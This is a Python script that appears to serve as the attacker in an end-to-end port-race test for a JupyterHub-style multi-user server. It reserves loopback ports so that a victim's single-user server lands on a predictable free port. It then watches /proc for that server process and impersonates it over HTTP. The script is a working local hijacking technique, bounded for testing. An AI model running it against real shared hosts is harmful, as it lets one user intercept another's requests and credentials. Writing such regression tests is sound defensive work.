"""The port-race attacker of test/e2e/port-race.test.ts, run as an ordinary user.

Holds blocks of loopback ports bound but not listening, so that bind(0) (how the
hub picks a server's port) lands in one of the few gaps it leaves. It watches /proc
for a new jupyterhub-singleuser of the victim's uid and then listens on every gap,
answering any HTTP request as if it were the victim's server, with a marker in the
body. It writes one line per event on stdout ("ready ...", "armed <pid>",
"hit <port> <path>").

Bounded: at most `--ports` held sockets (loopback only), at most `--seconds` of
life; the gaps close again on "reset" from stdin or after `--armed-seconds`; it
exits when stdin closes, so it never outlives the test that started it.

Usage: port-grabber.py VICTIM_UID MARKER [--ports N] [--seconds S]
"""

from __future__ import annotations

import argparse
import os
import resource
import selectors
import socket
import sys
import time

GAP_EVERY = 64  # one free port every GAP_EVERY ports of bind(0)'s parity


def say(line: str) -> None:
    sys.stdout.write(line + "\n")
    sys.stdout.flush()


def port_range() -> tuple[int, int]:
    with open("/proc/sys/net/ipv4/ip_local_port_range") as f:
        lo, hi = (int(x) for x in f.read().split())
    return lo, hi


def bind_zero_parity() -> int:
    """The parity of the ports bind(0) picks (Linux leaves the other one to connect())."""
    odd = 0
    for _ in range(16):
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
            s.bind(("", 0))
            odd += s.getsockname()[1] % 2
    return 1 if odd > 8 else 0


def hold_ports(count: int) -> tuple[list[socket.socket], list[int]]:
    """Bind `count` ports of bind(0)'s parity in one block of the ephemeral range, leaving gaps."""
    lo, hi = port_range()
    start = lo if lo % 2 == bind_zero_parity() else lo + 1
    held: list[socket.socket] = []
    gaps: list[int] = []
    port = start
    index = 0
    while len(held) < count and port <= hi:
        if index % GAP_EVERY == GAP_EVERY - 1:
            gaps.append(port)
        else:
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            try:
                s.bind(("127.0.0.1", port))
                held.append(s)
            except OSError:
                s.close()
        port += 2
        index += 1
    return held, gaps


def singleuser_pids(uid: int) -> set[int]:
    found: set[int] = set()
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            if os.stat(f"/proc/{entry}").st_uid != uid:
                continue
            with open(f"/proc/{entry}/cmdline", "rb") as f:
                cmdline = f.read()
        except OSError:
            continue
        if b"jupyterhub-singleuser" in cmdline:
            found.add(int(entry))
    return found


def answer(conn: socket.socket, port: int, marker: str) -> None:
    conn.settimeout(2)
    try:
        data = conn.recv(65536)
        line = data.split(b"\r\n", 1)[0].decode("latin-1", "replace")
        path = line.split(" ")[1] if line.count(" ") >= 2 else "?"
        body = ('{"attacker": "%s", "port": %d}' % (marker, port)).encode()
        conn.sendall(
            b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
            b"X-JupyterHub-Version: 6.1.1\r\nConnection: close\r\n"
            + b"Content-Length: %d\r\n\r\n" % len(body)
            + body
        )
        say(f"hit {port} {path}")
    except OSError:
        pass
    finally:
        conn.close()


def main() -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("victim_uid", type=int)
    ap.add_argument("marker")
    ap.add_argument("--ports", type=int, default=4000)
    ap.add_argument("--seconds", type=float, default=1200)
    ap.add_argument("--armed-seconds", type=float, default=60)
    args = ap.parse_args()
    deadline = time.monotonic() + args.seconds

    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = min(hard, args.ports + 256)
    if soft < want:
        resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))
    held, gaps = hold_ports(min(args.ports, want - 256))
    say(f"ready held={len(held)} gaps={len(gaps)} first={gaps[0] if gaps else 0} last={gaps[-1] if gaps else 0}")

    sel = selectors.DefaultSelector()
    sel.register(sys.stdin, selectors.EVENT_READ, "stdin")
    listeners: list[socket.socket] = []
    armed_until = 0.0
    seen = singleuser_pids(args.victim_uid)

    def disarm() -> None:
        nonlocal armed_until
        for s in listeners:
            sel.unregister(s)
            s.close()
        listeners.clear()
        armed_until = 0.0

    def arm(pid: int) -> None:
        nonlocal armed_until
        for port in gaps:
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            try:
                s.bind(("127.0.0.1", port))
                s.listen(64)
            except OSError:
                s.close()
                continue
            s.setblocking(False)
            sel.register(s, selectors.EVENT_READ, port)
            listeners.append(s)
        armed_until = time.monotonic() + args.armed_seconds
        say(f"armed {pid} listening={len(listeners)}")

    try:
        while time.monotonic() < deadline:
            for key, _ in sel.select(timeout=0.02):
                if key.data == "stdin":
                    line = sys.stdin.readline()
                    if not line:
                        return 0
                    if line.strip() == "reset":
                        disarm()
                        say("reset")
                    continue
                try:
                    conn, _addr = key.fileobj.accept()  # type: ignore[union-attr]
                except OSError:
                    continue
                answer(conn, int(key.data), args.marker)
            if armed_until and time.monotonic() > armed_until:
                disarm()
            now = singleuser_pids(args.victim_uid)
            for pid in sorted(now - seen):
                if not listeners:
                    arm(pid)
            seen = now
        say("deadline")
        return 0
    finally:
        disarm()
        for s in held:
            s.close()


if __name__ == "__main__":
    sys.exit(main())
